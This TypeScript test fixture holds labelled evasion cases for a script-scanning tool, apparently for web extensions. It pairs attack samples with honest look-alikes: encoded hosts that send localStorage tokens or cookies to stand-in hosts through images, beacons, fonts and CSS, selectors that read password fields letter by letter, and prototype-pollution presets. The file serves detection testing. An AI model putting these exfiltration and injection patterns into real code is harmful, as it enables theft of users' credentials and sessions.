import type { ScriptPack } from './script-attack-packs.js';

const CODES = [...'https://img.example.net/p.gif?s='].map((letter) => letter.charCodeAt(0));
const SUMS = CODES.map((_, at) => CODES.slice(0, at + 1).reduce((sum, code) => sum + code, 0));
const HOST = `const host = [${SUMS.join(', ')}].map((sum, at, all) => String.fromCharCode(sum - (at ? all[at - 1] : 0))).join("");`;
const OTHER = 'const host = "https://img.example.net/p.gif?s=";';

const COMPUTED_HOSTS: readonly ScriptPack[] = [
  {
    rule: 'script_hides_names',
    what: 'names that another script of the package spells',
    attack: {
      'web/rank.js': `export const WEIGHTS = { a: [${SUMS.join(', ')}] };\nexport const spell = (sums) => sums.map((sum, at) => String.fromCharCode(sum - (at ? sums[at - 1] : 11))).join("");`,
      'web/search.js':
        'import { WEIGHTS as W, spell as say } from "./rank.js";\nconst scope = globalThis;\nconst found = Object.entries(scope[say(W.b)] ?? {});\nnew scope[say(W.c)]().src = say(W.a) + btoa(JSON.stringify(found));',
    },
    honest: {
      'web/text.js': 'export const letter = (at) => String.fromCharCode(65 + at);',
      'web/list.js':
        'import { letter } from "./text.js";\nconst scope = globalThis;\nconst item = document.createElement("li");\nitem.textContent = letter(1);\nscope.lists ??= {};\nscope.lists[letter(2)] = item;\nscope["a"] = 1;',
    },
  },
  {
    rule: 'script_hides_names',
    what: 'a whole script of another one',
    attack: {
      'web/lib/codec.js': 'export default { read(list) { return list.map((n) => String.fromCharCode(n ^ 7)).join(""); } };\nexport function plain(text) { return atob(text); }',
      'web/ui.js': 'import * as codec from "./lib/codec.js";\nglobalThis[codec.plain(window.name)]("1");',
    },
  },
  {
    rule: 'script_hides_names',
    what: 'a class under another name',
    attack: {
      'web/util/x.js':
        'class Q { static d(a) { return a.map((c) => String.fromCharCode(c - 3)).join(""); } }\nexport { Q as Spell };',
      'web/b.js': 'import { Spell } from "./util/x.js";\nwindow[Spell.d(T)](1);',
    },
  },
  {
    rule: 'script_sends_store',
    what: 'a script that imports long ones',
    attack: {
      'web/util/x.js': `export const d = (a) => atob(a); const t = "${'a'.repeat(19_000)}";`,
      'web/b.js': `${[1, 2, 3, 4, 5, 6].map((n) => `import { d as d${n} } from "./util/x.js";`).join('\n')}\nconst o = {};\no.k = localStorage.getItem("token");\nnew Image().src = "https://img.example.net/" + o.k;`,
    },
  },
  {
    rule: 'script_hides_names',
    what: 'a script that is imported when it is used',
    attack: {
      'web/util/x.js':
        'export const d = (a) => new TextDecoder().decode(Uint8Array.from(a, (x) => x ^ 5));',
      'web/b.js': 'async function go() {\n  const { d } = await import("./util/x.js?v=1");\n  window[d(T)](1);\n}\ngo();',
    },
    honest: {
      'web/util/x.js': 'export const d = (a) => new TextDecoder().decode(a);',
      'web/b.js': 'const { d } = await import("./util/x.js");\nconst table = {};\ntable[d(T)] = window.name;',
    },
  },
  {
    rule: 'script_sends_store',
    what: 'the address of a picture',
    attack: `${HOST}\nnew Image().src = host + btoa(JSON.stringify({ ...localStorage }));`,
    honest: `${OTHER}\nnew Image().src = host + "a"; localStorage.getItem("theme");`,
  },
  {
    rule: 'script_sends_store',
    what: 'a picture by its attribute',
    attack: `${HOST}\nconst img = document.createElement("img"); img.setAttribute("src", host + localStorage.getItem("token"));`,
  },
  {
    rule: 'script_sends_store',
    what: 'a page that is loaded ahead',
    attack: `${HOST}\nconst l = document.createElement("link"); l.rel = "prefetch"; l.href = host + encodeURIComponent(document.cookie); document.head.append(l);`,
    honest: 'const l = document.createElement("link"); l.rel = "prefetch"; l.href = new URL("./a.css", import.meta.url); localStorage.getItem("a")',
  },
  {
    rule: 'script_sends_store',
    what: 'a font',
    attack: `${OTHER}\nnew FontFace("a", "url(" + host + btoa(document.cookie) + ")").load();`,
    honest: 'const c = document.cookie; new FontFace("a", "url(/extensions/pack/a.woff2)").load();',
  },
  {
    rule: 'script_sends_store',
    what: 'a sound',
    attack: `${OTHER}\nnew Audio(host + localStorage.getItem("token")).play();`,
    honest: 'const loud = localStorage.getItem("volume"); new Audio("/extensions/pack/" + loud + ".mp3").play();',
  },
  {
    rule: 'script_sends_store',
    what: 'an address of bytes',
    attack: `const host = new TextDecoder().decode(new Uint8Array([${CODES.join(', ')}]));\nnavigator.sendBeacon(host, localStorage.getItem("token"));`,
    honest: 'const text = new TextDecoder().decode(new Uint8Array([72, 105]));\nconst t = localStorage.getItem("theme"); fetch("/my/route", { body: text + t });',
  },
  {
    rule: 'script_sends_store',
    what: 'an address that is escaped',
    attack: 'fetch(decodeURIComponent("https%3A%2F%2Fimg.example.net%2Fc"), { method: "POST", body: JSON.stringify(localStorage) });',
    honest: 'fetch(decodeURIComponent("%2Fmy%2Froute"), { method: "POST", body: localStorage.getItem("theme") });',
  },
  {
    rule: 'script_sends_store',
    what: 'a style of an element',
    attack: `${HOST}\ndocument.body.style.setProperty("background", "url(" + host + document.cookie + ")");`,
    honest: 'const c = document.cookie; document.body.style.setProperty("background", "url(/extensions/pack/a.png)");',
  },
];

const letters = [...'abcdefgh'];
const STYLES: readonly ScriptPack[] = [
  {
    rule: 'style_reads_fields',
    what: 'a field by its first letters',
    attack: {
      'web/a.css': letters.map((l) => `input[type=password][value^="${l}"],b{--glow:url(https://fonts.example.net/${l}.svg)}`).join('\n'),
    },
    honest: {
      'web/a.css':
        'input[value^="a"] { background: url(./a.svg) }\na[href^="https://"] { background: url(https://fonts.example.net/out.svg) }\ninput[value="on"] { color: red }',
    },
  },
  {
    rule: 'style_reads_fields',
    what: 'styles that a script makes',
    attack:
      'for (const l of "abc") sheet.insertRule(`input[value$="${l}"] { background: url(https://fonts.example.net/${l}) }`);',
    honest: 'document.querySelector(`input[value="${name}"]`).style.background = "url(https://fonts.example.net/a.png)";',
  },
  {
    rule: 'style_reads_fields',
    what: 'styles with an address that a script knows',
    attack:
      'for (const l of "abc") css += "[data-token*=\'" + l + "\'] { background-image: url(" + host + l + ") }";',
  },
  {
    rule: 'style_reads_fields',
    what: 'fonts for single letters',
    attack: {
      'web/a.css': letters
        .map((l) => `@font-face { font-family: A; src: url(//fonts.example.net/${l}); unicode-range: U+00${l.charCodeAt(0).toString(16)}; }`)
        .join('\n'),
    },
    honest: {
      'web/a.css':
        '@font-face { font-family: A; src: url(https://fonts.gstatic.com/a.woff2); unicode-range: U+0000-00FF; }\n@font-face { src: url(a.woff2); unicode-range: U+0041; }',
    },
  },
  {
    rule: 'style_loads_foreign',
    what: 'a style of another host',
    attack: { 'web/a.css': '@import url("https://fonts.example.net/a.css");' },
    honest: { 'web/a.css': '@import url("https://fonts.googleapis.com/css2?family=Inter");\n@import "./b.css";' },
  },
];

const POLLUTED: readonly ScriptPack[] = [
  {
    rule: 'pollutes_prototypes',
    what: 'a preset',
    attack: {
      'web/presets.json': '{"grid":{"gap":40},"__proto__":{"tag":"script","src":"//cdn.example.net/m.js","type":"module"}}',
    },
    honest: { 'web/presets.json': '{"grid":{"gap":40,"src":"https://cdn.example.net/a.png"},"prototype":{"constructor":"a"}}' },
  },
  {
    rule: 'pollutes_prototypes',
    what: 'a preset with letters as numbers, below a list',
    attack: {
      'web/presets.json': '[{"a":{"\\u005f_proto__":{"b":{"onerror":"fetch(1)"}}}}]',
    },
    honest: { 'web/presets.json': '[{"a":{"\\u00e9":{"onerror":"fetch(1)"}}}]' },
  },
  {
    rule: 'pollutes_prototypes',
    what: 'the prototype of a constructor',
    attack: {
      'presets.json': '{"constructor":{"prototype":{"innerHTML":"<img src=x>"}}}',
    },
    honest: { 'presets.json': '{"constructor":{"name":"a"},"innerHTML":"<img src=x>"}' },
  },
  {
    rule: 'pollutes_prototypes',
    what: 'data within a script',
    attack: `merge(options, JSON.parse('{"__proto__":{"src":"https://cdn.example.net/m.js"}}'));`,
    honest: 'const own = { "__proto__": null, a: 1 };\nif (key === "__proto__" || key === "constructor") throw new Error("no");',
  },
  {
    rule: 'pollutes_prototypes',
    what: 'data that a route sends',
    attack: {
      'node.py': 'from server import PromptServer\nPromptServer.instance.send_sync("a.update", \'{"x": 1, "__proto__": {"srcdoc": "<script>1</script>"}}\')\n',
    },
  },
  {
    rule: 'pollutes_prototypes',
    what: 'an assignment',
    attack: 'Object.prototype.src = "https://cdn.example.net/m.js";',
    honest: 'Object.prototype.keysOf = function () { return Object.keys(this); };\nfunction A() {}\nA.prototype.src = "a.png";',
  },
  {
    rule: 'pollutes_prototypes',
    what: 'members that are assigned together',
    attack: 'Object.assign(Object.prototype, { src: "https://cdn.example.net/m.js" });',
    honest: 'Object.defineProperty(Object.prototype, "own", { value: () => 1 });',
  },
  {
    rule: 'pollutes_prototypes',
    what: 'an assignment to what an object has',
    attack: 'const o = {};\no.__proto__["onerror"] = "x";\n({}).__proto__.href = "https://cdn.example.net/m.js";',
  },
  {
    rule: 'names_prototype',
    what: 'a preset with other members',
    attack: { 'presets.json': '{"__proto__":{"isAdmin":true}}' },
  },
];

/** Classes of attacks by scripts, styles and data that a blind trial of the scan showed. */
export const EVASION_SCRIPTS: readonly ScriptPack[] = [...COMPUTED_HOSTS, ...STYLES, ...POLLUTED];
